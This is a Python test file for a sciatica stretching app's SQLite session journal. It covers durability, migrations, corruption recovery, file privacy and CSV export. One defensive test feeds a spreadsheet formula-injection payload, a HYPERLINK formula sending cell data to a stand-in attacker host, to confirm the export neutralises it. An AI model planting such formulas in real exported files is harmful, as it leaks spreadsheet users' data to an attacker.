"""Tests for the session journal: durability, schema versions, damage, faults and privacy."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
from collections.abc import Callable
from contextlib import closing
from datetime import datetime
from pathlib import Path

import pytest
from support.journal import opened, query

from sciatica_timer.core.records import (
    PainStop,
    PainStopDetails,
    PainStopRecord,
    Reach,
    SessionRow,
    SessionStatus,
)
from sciatica_timer.core.timeline import PhaseKind, Side
from sciatica_timer.storage.journal import schema as journal_schema
from sciatica_timer.storage.journal.export import write_pain_stops, write_sessions
from sciatica_timer.storage.journal.store import Journal

ROOT = Path(__file__).resolve().parents[3]
V1_FIXTURE = ROOT / "tests" / "fixtures" / "journal" / "v1.sqlite3"
REQUIRED_HEADER = "session_id,started_at,ended_at,routine_id,status,stopped_exercise,stopped_side"
posix_only = pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")


def pain_stop(journal: Journal, session_id: int) -> int:
    return journal.record_pain_stop(
        PainStopRecord(session_id, "evening", "piriformis", "Piriformis stretch", Side.LEFT,
                       PhaseKind.WORK, "Hold", 12.5)
    )  # fmt: skip


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_sessions_and_pain_stops_round_trip(path: Path) -> None:
    """Sessions and pain stops read back, newest first, after the journal is reopened."""
    with opened(path) as journal:
        first = journal.start_session("morning", "Morning routine")
        journal.finish_session(first, SessionStatus.COMPLETED, ["cat_cow", "bridge"], ["plank"])
        second = journal.start_session("evening", "Evening stretches")
        stop_id = pain_stop(journal, second)
        assert journal.writable and journal.notices == []
    with opened(path) as journal:
        assert journal.sessions() == [
            SessionRow(second, "2026-03-01T09:15:33+02:00", "2026-03-01T09:15:34+02:00",
                       "evening", "Evening stretches", SessionStatus.STOPPED_PAIN,
                       "piriformis", "left", (), ()),
            SessionRow(first, "2026-03-01T09:15:31+02:00", "2026-03-01T09:15:32+02:00",
                       "morning", "Morning routine", SessionStatus.COMPLETED, None, None,
                       ("cat_cow", "bridge"), ("plank",)),
        ]  # fmt: skip
        assert journal.pain_stops() == [
            PainStop(second, "2026-03-01T09:15:34+02:00", "evening", "piriformis",
                     "Piriformis stretch", Side.LEFT, PhaseKind.WORK, "Hold", 12.5,
                     stop_id=stop_id)
        ]  # fmt: skip


def test_naive_clock_is_stamped_with_the_local_offset(path: Path) -> None:
    """A naive 'now' is stamped as local time with its UTC offset, to the second."""
    naive = datetime(2026, 3, 1, 9, 15, 30, 999)
    with Journal.open(path, lambda: naive) as journal:
        journal.start_session("r", "R")
        started = journal.sessions()[0].started_at
    assert started == naive.astimezone().isoformat(timespec="seconds")
    assert datetime.fromisoformat(started).utcoffset() is not None


def test_pain_stop_is_in_the_file_when_the_call_returns(path: Path) -> None:
    """A separate connection sees the pain stop and the stopped session right after the call."""
    with opened(path) as journal:
        session = journal.start_session("evening", "Evening stretches")
        pain_stop(journal, session)
        stops = query(path, "SELECT session_id, exercise_id, side, seconds_into FROM pain_stop")
        assert stops == [(session, "piriformis", "left", 12.5)]
        assert query(path, "SELECT status, stopped_exercise, stopped_side FROM session") == [
            ("stopped_pain", "piriformis", "left")
        ]


@pytest.mark.parametrize("death", ["os._exit(0)", "os.kill(os.getpid(), signal.SIGKILL)"])
def test_pain_stop_survives_the_process_dying(path: Path, death: str) -> None:
    """A process killed right after record_pain_stop, without close, leaves the row saved."""
    if "SIGKILL" in death and not hasattr(signal, "SIGKILL"):
        pytest.skip("no SIGKILL here")
    code = textwrap.dedent(f"""
        import os, signal, sys
        from pathlib import Path
        from sciatica_timer.core.records import PainStopRecord
        from sciatica_timer.core.timeline import PhaseKind, Side
        from sciatica_timer.storage.journal.store import Journal
        journal = Journal.open(Path(sys.argv[1]))
        session = journal.start_session("evening", "Evening stretches")
        journal.record_pain_stop(PainStopRecord(session, "evening", "piriformis", None, Side.LEFT,
                                                PhaseKind.WORK, "Hold", 3))
        {death}
    """)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run([sys.executable, "-c", code, str(path)], env=env, timeout=60)
    assert done.returncode in (0, -getattr(signal, "SIGKILL", 9))
    assert query(path, "SELECT exercise_id, side FROM pain_stop") == [("piriformis", "left")]
    assert query(path, "SELECT status FROM session") == [("stopped_pain",)]


def test_wal_mode_and_full_sync(path: Path) -> None:
    """The file is in WAL mode and the journal's connection syncs fully on every commit."""
    with opened(path) as journal:
        assert query(path, "PRAGMA journal_mode") == [("wal",)]
        assert journal._conn is not None  # the pragma is per connection: look at ours
        assert journal._conn.execute("PRAGMA synchronous").fetchone() == (2,)


def test_finish_after_pain_stop_keeps_stopped_pain(path: Path) -> None:
    """Finishing a session after its pain stop adds the lists but keeps status and end time."""
    with opened(path) as journal:
        session = journal.start_session("evening", "Evening stretches")
        pain_stop(journal, session)
        journal.finish_session(session, SessionStatus.ENDED_EARLY, ["cat_cow"], ["bridge"])
        row = journal.sessions()[0]
        stop = journal.pain_stops()[0]
    assert row.status is SessionStatus.STOPPED_PAIN and row.ended_at == stop.at
    assert (row.completed, row.skipped) == (("cat_cow",), ("bridge",))


def test_finish_refuses_running_status(path: Path) -> None:
    """Finishing a session as 'running' is a programming error."""
    with opened(path) as journal, pytest.raises(ValueError):
        journal.finish_session(journal.start_session("r", "R"), SessionStatus.RUNNING)


def test_mark_interrupted_marks_only_earlier_runs(path: Path) -> None:
    """Sessions left running by an earlier run become interrupted; this run's do not."""
    with opened(path) as journal:
        left_running = journal.start_session("morning", "Morning routine")
        finished = journal.start_session("morning", "Morning routine")
        journal.finish_session(finished, SessionStatus.COMPLETED)
    with opened(path) as journal:
        current = journal.start_session("evening", "Evening stretches")
        interrupted = journal.mark_interrupted()
        assert [(r.session_id, r.status) for r in interrupted] == [
            (left_running, SessionStatus.INTERRUPTED)
        ]
        assert journal.mark_interrupted() == []
        statuses = {r.session_id: r.status for r in journal.sessions()}
    assert statuses == {
        left_running: SessionStatus.INTERRUPTED,
        finished: SessionStatus.COMPLETED,
        current: SessionStatus.RUNNING,
    }


def test_export_csv_writes_header_and_one_row_per_session(path: Path) -> None:
    """The CSV has the agreed header and one row per session, oldest first, quoted safely."""
    with opened(path) as journal:
        first = journal.start_session("a", 'Stretch, "gentle"\nversion')
        journal.finish_session(first, SessionStatus.COMPLETED, ["cat_cow", "bridge"])
        second = journal.start_session("b", "Evening")
        pain_stop(journal, second)
        out = io.StringIO(newline="")
        assert write_sessions(journal, out) == 2
    header, *rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert ",".join(header).startswith(f"{REQUIRED_HEADER},")
    table = [dict(zip(header, row, strict=True)) for row in rows]
    assert [r["session_id"] for r in table] == [str(first), str(second)]
    assert table[0]["routine_name"] == 'Stretch, "gentle"\nversion'
    assert (table[0]["status"], table[0]["completed"], table[0]["stopped_side"]) == (
        "completed", "cat_cow;bridge", "")  # fmt: skip
    assert (table[1]["status"], table[1]["stopped_exercise"], table[1]["stopped_side"]) == (
        "stopped_pain", "piriformis", "left")  # fmt: skip


def test_version_0_empty_file_is_migrated(path: Path) -> None:
    """An empty file (version 0, no tables) becomes the current schema; nothing to back up."""
    path.parent.mkdir()
    path.touch()
    with opened(path) as journal:
        journal.start_session("r", "R")
    assert query(path, "PRAGMA user_version") == [(len(journal_schema.MIGRATIONS),)]
    assert list(path.parent.glob("*.bak")) == []


def test_version_0_file_with_tables_is_backed_up_then_migrated(path: Path) -> None:
    """A version-0 file holding anything is copied to a .v0-*.bak before it is migrated."""
    path.parent.mkdir()
    with closing(sqlite3.connect(path)) as conn, conn:
        conn.execute("CREATE TABLE notes (text TEXT)")
        conn.execute("INSERT INTO notes VALUES ('keep me')")
    with opened(path) as journal:
        assert journal.sessions() == []
        (backup,) = path.parent.glob("journal.sqlite3.v0-20260301-*.bak")
        assert str(backup) in " ".join(journal.notices)
    assert query(backup, "SELECT text FROM notes") == [("keep me",)]
    assert query(backup, "PRAGMA user_version") == [(0,)]
    assert query(path, "SELECT text FROM notes") == [("keep me",)]


def test_stored_v1_journal_migrates_with_its_data(path: Path) -> None:
    """The stored version-1 journal is backed up, migrated, and its rows read back."""
    path.parent.mkdir()
    shutil.copyfile(V1_FIXTURE, path)
    with opened(path) as journal:
        sessions = journal.sessions()
        assert [(r.session_id, r.status) for r in sessions] == [
            (3, SessionStatus.RUNNING), (2, SessionStatus.STOPPED_PAIN),
            (1, SessionStatus.COMPLETED),
        ]  # fmt: skip
        assert sessions[2].completed == ("knee_to_chest", "cat_cow")
        assert journal.pain_stops()[0].exercise_name == "Piriformis stretch"
        assert sessions[0].pain_before is None and journal.pain_stops()[0].qualities == ()
        (backup,) = path.parent.glob("journal.sqlite3.v1-*.bak")
        assert any(str(backup) in notice for notice in journal.notices)
    assert query(path, "PRAGMA user_version") == [(len(journal_schema.MIGRATIONS),)]
    assert query(backup, "PRAGMA user_version") == [(1,)]


def test_v1_file_keeps_its_data_when_reopened(path: Path) -> None:
    """Reopening a current journal neither migrates, backs up nor loses anything."""
    with opened(path) as journal:
        journal.finish_session(journal.start_session("r", "R"), SessionStatus.COMPLETED)
        before = journal.sessions()
    with opened(path) as journal:
        assert journal.sessions() == before and journal.notices == []
    assert list(path.parent.glob("*.bak")) == []


def test_next_migration_is_an_append(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Appending a migration moves a current file one version on, after a .bak copy of it."""
    current = len(journal_schema.MIGRATIONS)
    with opened(path) as journal:
        journal.start_session("r", "R")
    later = "ALTER TABLE session ADD COLUMN note TEXT NOT NULL DEFAULT ''"
    monkeypatch.setattr(journal_schema, "MIGRATIONS", [*journal_schema.MIGRATIONS, later])
    with opened(path) as journal:
        assert [r.routine_id for r in journal.sessions()] == ["r"]
    assert query(path, "PRAGMA user_version") == [(current + 1,)]
    assert query(path, "SELECT routine_id, note FROM session") == [("r", "")]
    (backup,) = path.parent.glob(f"journal.sqlite3.v{current}-*.bak")
    assert query(backup, "PRAGMA user_version") == [(current,)]
    assert query(backup, "SELECT routine_id FROM session") == [("r",)]


def test_newer_version_is_left_untouched(path: Path) -> None:
    """A journal from a newer version is not modified or moved; the journal runs in memory."""
    path.parent.mkdir()
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("CREATE TABLE future (x)")
        conn.execute("PRAGMA user_version = 99")
    before = digest(path)
    with opened(path) as journal:
        assert not journal.writable
        assert "newer version" in journal.notices[0] and str(path) in journal.notices[0]
        session = journal.start_session("r", "R")
        pain_stop(journal, session)
        assert [r.status for r in journal.sessions()] == [SessionStatus.STOPPED_PAIN]
        assert journal.pain_stops()[0].session_id == session
    assert digest(path) == before
    assert sorted(p.name for p in path.parent.iterdir()) == ["journal.sqlite3"]


def test_garbage_file_is_moved_aside(path: Path) -> None:
    """A file that is not a database is renamed (with its -wal) and a new journal starts."""
    path.parent.mkdir()
    path.write_bytes(b"\x00garbage, not a database\xff" * 200)
    wal = path.with_name("journal.sqlite3-wal")
    wal.write_bytes(b"stale log")
    original = digest(path)
    with opened(path) as journal:
        (moved,) = path.parent.glob("journal.sqlite3.corrupt-*[0-9]")
        assert digest(moved) == original
        # Windows renames no file SQLite holds open, so the file moves only once closed,
        # and closing it removes the stale -wal: kept on POSIX only.
        if os.name == "posix":
            assert moved.with_name(moved.name + "-wal").read_bytes() == b"stale log"
        assert any(str(moved) in notice for notice in journal.notices)
        journal.start_session("r", "R")
        assert journal.writable and len(journal.sessions()) == 1


@pytest.mark.parametrize("damage", ["truncate", "garble"])
def test_damaged_database_is_moved_aside(path: Path, damage: str) -> None:
    """A real journal that fails its check is renamed whole and a new journal starts."""
    with opened(path) as journal:
        for n in range(200):
            journal.start_session(f"routine-{n}", "A routine name long enough to fill pages" * 3)
    with path.open("r+b") as file:
        if damage == "truncate":
            file.truncate(path.stat().st_size // 2)
        else:
            file.seek(4096)
            file.write(bytes(range(256)) * 32)
    damaged = digest(path)
    with opened(path) as journal:
        (moved,) = path.parent.glob("journal.sqlite3.corrupt-*[0-9]")
        assert digest(moved) == damaged
        assert any(str(moved) in notice for notice in journal.notices)
        assert journal.sessions() == []
        assert journal.start_session("r", "R") > 0 and journal.writable


def _block(tmp_path: Path, how: str) -> tuple[Path, Callable[[], None]]:
    """A journal path that cannot be written for a real reason, and how to undo that."""
    if how == "read-only parent":
        parent = tmp_path / "readonly"
        parent.mkdir()
        if os.geteuid() == 0:  # chmod does not stop root; the immutable attribute does
            subprocess.run(["chattr", "+i", str(parent)], check=True)

            def unfreeze() -> None:
                subprocess.run(["chattr", "-i", str(parent)], check=True)

            return parent / "data" / "journal.sqlite3", unfreeze
        parent.chmod(0o500)
        return parent / "data" / "journal.sqlite3", lambda: parent.chmod(0o700)
    if how == "folder is a file":
        blocker = tmp_path / "data"
        blocker.write_text("in the way")
        return blocker / "journal.sqlite3", blocker.unlink
    path = tmp_path / "data" / "journal.sqlite3"
    path.mkdir(parents=True)
    return path, path.rmdir


@pytest.mark.parametrize(
    "how",
    [pytest.param("read-only parent", marks=posix_only), "folder is a file", "file is a folder"],
)
def test_unwritable_folder_keeps_working_then_saves(tmp_path: Path, how: str) -> None:
    """An unwritable place never raises: sessions live in memory and land once it is writable."""
    path, unblock = _block(tmp_path, how)
    with opened(path) as journal:
        assert not journal.writable
        assert str(path.parent) in journal.notices[0] and "cannot be saved" in journal.notices[0]
        session = journal.start_session("evening", "Evening stretches")
        assert session < 0
        pain_stop(journal, session)
        assert journal.sessions()[0].status is SessionStatus.STOPPED_PAIN
        assert journal.pain_stops()[0].session_id == session
        assert len(journal.notices) == 1
        unblock()
        journal.finish_session(session, SessionStatus.STOPPED_PAIN, ["cat_cow"])
        assert journal.writable and journal.flush()
        assert "saved again" in journal.notices[-1]
        (saved,) = journal.sessions()
        assert saved.session_id > 0 and saved.completed == ("cat_cow",)
    assert query(path, "SELECT session_id, exercise_id FROM pain_stop") == [
        (saved.session_id, "piriformis")
    ]
    assert query(path, "SELECT status FROM session") == [("stopped_pain",)]


def test_locked_database_queues_the_pain_stop_until_flush(path: Path) -> None:
    """A write that fails (the file is locked) is kept and saved by a later flush()."""
    with opened(path, busy_timeout_s=0.05) as journal:
        session = journal.start_session("evening", "Evening stretches")
        with closing(sqlite3.connect(path, isolation_level=None)) as other:
            other.execute("BEGIN IMMEDIATE")
            pain_stop(journal, session)
            assert not journal.writable and "database is locked" in journal.notices[0]
            assert not journal.flush()
            assert journal.sessions()[0].status is SessionStatus.STOPPED_PAIN
            other.execute("ROLLBACK")
        assert journal.flush() and journal.writable
        assert query(path, "SELECT session_id FROM pain_stop") == [(session,)]


@posix_only
def test_folder_and_files_are_private(tmp_path: Path) -> None:
    """The folder the journal creates is 0700 and the journal, its -wal and -shm are 0600,
    whatever the umask."""
    data = tmp_path / "data"
    path = data / "journal.sqlite3"
    old_umask = os.umask(0)
    try:
        with opened(path) as journal:
            journal.start_session("r", "R")
            assert mode(data) == 0o700
            for name in ("journal.sqlite3", "journal.sqlite3-wal", "journal.sqlite3-shm"):
                assert mode(data / name) == 0o600, name
    finally:
        os.umask(old_umask)


@posix_only
def test_backup_and_new_folder_are_private(tmp_path: Path) -> None:
    """A new folder is created 0700 and a pre-migration backup is 0600; a journal that
    already existed keeps its own mode (the app sets modes only on what it creates)."""
    path = tmp_path / "new" / "journal.sqlite3"
    path.parent.mkdir()
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("CREATE TABLE old (x)")
    path.chmod(0o644)
    with opened(path):
        pass
    (backup,) = path.parent.glob("*.bak")
    assert (mode(path), mode(backup)) == (0o644, 0o600)
    with opened(tmp_path / "fresh" / "journal.sqlite3"):
        assert mode(tmp_path / "fresh") == 0o700


def test_journal_does_not_load_qt() -> None:
    """Importing the journal in a fresh interpreter does not load PySide6."""
    code = "import sys, sciatica_timer.storage.journal.store, sciatica_timer.storage.journal.export"
    code += "; assert 'PySide6' not in sys.modules"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run([sys.executable, "-c", code], env=env, check=True, timeout=60)


def test_v2_before_after_and_pain_stop_details_round_trip(path: Path) -> None:
    """Pain before/after, reach, flare-up and the pain-stop follow-up are stored and exported."""
    with opened(path) as journal:
        sid = journal.start_session("r", "R", pain_before=6, reach_before=Reach.THIGH, flare=True)
        stop_id = pain_stop(journal, sid)
        details = PainStopDetails(Reach.BELOW_KNEE, ("shooting", "tingling"), 7)
        journal.add_pain_stop_details(stop_id, details)
        journal.finish_session(sid, SessionStatus.COMPLETED)
        journal.record_after(sid, 4, Reach.BUTTOCK)
        (row,) = journal.sessions()
        assert (row.pain_before, row.reach_before, row.flare) == (6, "thigh", True)
        assert (row.pain_after, row.reach_after) == (4, "buttock")
        (stop,) = journal.pain_stops()
        assert (stop.radiated_to, stop.qualities, stop.intensity) == (
            "below_knee", ("shooting", "tingling"), 7,
        )  # fmt: skip
        out = io.StringIO()
        assert write_pain_stops(journal, out) == 1
        (exported,) = csv.DictReader(io.StringIO(out.getvalue()))
        assert exported["qualities"] == "shooting;tingling" and exported["intensity"] == "7"
        sessions_csv = io.StringIO()
        write_sessions(journal, sessions_csv)
        (srow,) = csv.DictReader(io.StringIO(sessions_csv.getvalue()))
        assert (srow["pain_before"], srow["reach_after"], srow["flare"]) == ("6", "buttock", "1")


def test_export_gives_every_time_its_utc_offset(path: Path) -> None:
    """Both CSV exports give every time its UTC offset; a time stored without one (an older or
    hand-made row) is taken as local time, and text that is no time is left as it is."""
    with opened(path) as journal:
        pain_stop(journal, journal.start_session("r", "R"))
    with closing(sqlite3.connect(path)) as db, db:
        db.execute(
            "INSERT INTO session (started_at, ended_at, routine_id, routine_name, status) "
            "VALUES ('2020-01-01T08:00:00', 'garbled', 'r', 'R', 'completed')"
        )
        db.execute(
            "INSERT INTO pain_stop (session_id, at, routine_id, phase_kind, phase_label, "
            "seconds_into) VALUES (1, '2020-01-01 08:10', 'r', 'work', 'Hold', 3)"
        )
    with opened(path) as journal:
        sessions, stops = io.StringIO(), io.StringIO()
        write_sessions(journal, sessions)
        write_pain_stops(journal, stops)
    session_rows = list(csv.DictReader(io.StringIO(sessions.getvalue())))
    stop_rows = list(csv.DictReader(io.StringIO(stops.getvalue())))
    assert [r["started_at"] for r in session_rows] == [
        "2026-03-01T09:15:31+02:00",
        datetime(2020, 1, 1, 8, 0).astimezone().isoformat(),
    ]
    assert [r["ended_at"] for r in session_rows] == ["2026-03-01T09:15:32+02:00", "garbled"]
    assert [r["at"] for r in stop_rows] == [
        "2026-03-01T09:15:32+02:00",
        datetime(2020, 1, 1, 8, 10).astimezone().isoformat(),
    ]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://evil.invalid/?d="&A1,"open")', "@SUM(1)", "+1", "-1", "\tx", "\rx"]
)
def test_csv_cells_that_look_like_formulas_are_neutralised(tmp_path: Path, name: str) -> None:
    """A routine or exercise named like a formula lands in both CSV files as text, as
    spreadsheets expect (a leading apostrophe), never as a formula."""
    with Journal.open(tmp_path / "j.sqlite3") as journal:
        sid = journal.start_session("r", name)
        journal.record_pain_stop(
            PainStopRecord(sid, "r", "x", name, Side.LEFT, PhaseKind.WORK, "Roll", 3.0)
        )
        sessions, stops = io.StringIO(), io.StringIO()
        write_sessions(journal, sessions)
        write_pain_stops(journal, stops)
    (session,) = list(csv.DictReader(io.StringIO(sessions.getvalue())))
    (stop,) = list(csv.DictReader(io.StringIO(stops.getvalue())))
    assert session["routine_name"] == "'" + name
    assert stop["exercise_name"] == "'" + name
    assert not any(v.startswith(("=", "+", "-", "@")) for v in (*session.values(), *stop.values()))


def test_a_lone_surrogate_in_a_name_never_blocks_a_write(tmp_path: Path) -> None:
    """A name with a lone surrogate (valid JSON, invalid UTF-8) is saved escaped: the pain
    stop is on disk and the next session still starts (the queue is not poisoned)."""
    with Journal.open(tmp_path / "j.sqlite3") as journal:
        sid = journal.start_session("r", "Routine \udc00")
        journal.record_pain_stop(
            PainStopRecord(sid, "r", "x", "Roll \udc00", Side.LEFT, PhaseKind.WORK, "Roll", 1.0)
        )
        assert journal.writable, "nothing left pending in memory"
        journal.start_session("r", "Next one")
        assert journal.writable
    with sqlite3.connect(tmp_path / "j.sqlite3") as db:
        names = db.execute("select exercise_name from pain_stop").fetchall()
        count = db.execute("select count(*) from session").fetchone()
    db.close()
    assert names == [("Roll \\udc00",)] and count == (2,)


def test_pain_stop_returns_its_id_and_details_attach_to_that_stop(path: Path) -> None:
    """record_pain_stop returns the id of the stop it wrote, and the follow-up given that id
    lands on that stop, even when a later stop of the same session exists."""
    with opened(path) as journal:
        sid = journal.start_session("evening", "Evening stretches")
        first = pain_stop(journal, sid)
        second = pain_stop(journal, sid)
        journal.add_pain_stop_details(first, PainStopDetails(Reach.THIGH, ("burning",), 3))
        by_id = {p.stop_id: p for p in journal.pain_stops()}
    assert 0 < first < second
    assert (by_id[first].radiated_to, by_id[first].qualities, by_id[first].intensity) == (
        Reach.THIGH, ("burning",), 3)  # fmt: skip
    assert (by_id[second].radiated_to, by_id[second].intensity) == (None, None)
    assert query(path, "SELECT pain_stop_id, radiated_to FROM pain_stop ORDER BY 1") == [
        (first, "thigh"), (second, None)]  # fmt: skip


def test_a_queued_stop_id_names_the_same_stop_once_saved(path: Path) -> None:
    """A stop written while the file is locked gets a provisional id; details given that id
    attach to that stop in memory and, once the queue is saved, in the file."""
    with opened(path, busy_timeout_s=0.05) as journal:
        sid = journal.start_session("evening", "Evening stretches")
        with closing(sqlite3.connect(path, isolation_level=None)) as other:
            other.execute("BEGIN IMMEDIATE")
            first, second = pain_stop(journal, sid), pain_stop(journal, sid)
            journal.add_pain_stop_details(first, PainStopDetails(Reach.FOOT, (), 8))
            assert first < 0 and second < 0 and not journal.writable
            in_memory = [(p.stop_id, p.radiated_to) for p in journal.pain_stops()]
            assert in_memory == [(second, None), (first, Reach.FOOT)]
            other.execute("ROLLBACK")
        assert journal.flush()
        saved = [(p.radiated_to, p.intensity) for p in journal.pain_stops()]
    assert saved == [(None, None), (Reach.FOOT, 8)]


def test_enums_round_trip_through_sqlite(path: Path) -> None:
    """Status, side, phase kind and reach are stored as their text and read back as the
    same members; text no version writes (a hand-edited row) reads as unknown."""
    with opened(path) as journal:
        sid = journal.start_session("r", "R", 4, Reach.FOOT)
        stop = journal.record_pain_stop(
            PainStopRecord(sid, "r", "x", "X", Side.RIGHT, PhaseKind.SWITCH, "Switch", 1.0)
        )
        journal.add_pain_stop_details(stop, PainStopDetails(Reach.NONE))
        journal.record_after(sid, 2, Reach.LOWER_BACK)
    assert query(path, "SELECT status, stopped_side, reach_before, reach_after FROM session") == [
        ("stopped_pain", "right", "foot", "lower_back")]  # fmt: skip
    assert query(path, "SELECT side, phase_kind, radiated_to FROM pain_stop") == [
        ("right", "switch", "none")]  # fmt: skip
    with opened(path) as journal:
        (row,) = journal.sessions()
        (read,) = journal.pain_stops()
    assert row.status is SessionStatus.STOPPED_PAIN and row.stopped_side is Side.RIGHT
    assert row.reach_before is Reach.FOOT and row.reach_after is Reach.LOWER_BACK
    assert (read.side, read.phase_kind, read.radiated_to) == (
        Side.RIGHT, PhaseKind.SWITCH, Reach.NONE)  # fmt: skip
    assert read.side is Side.RIGHT and read.phase_kind is PhaseKind.SWITCH
    assert read.radiated_to is Reach.NONE
    with closing(sqlite3.connect(path)) as db, db:
        db.execute("UPDATE session SET reach_before = 'knee-ish', stopped_side = 'up'")
    with opened(path) as journal:
        (row,) = journal.sessions()
    assert (row.reach_before, row.stopped_side, row.reach_after) == (None, None, Reach.LOWER_BACK)
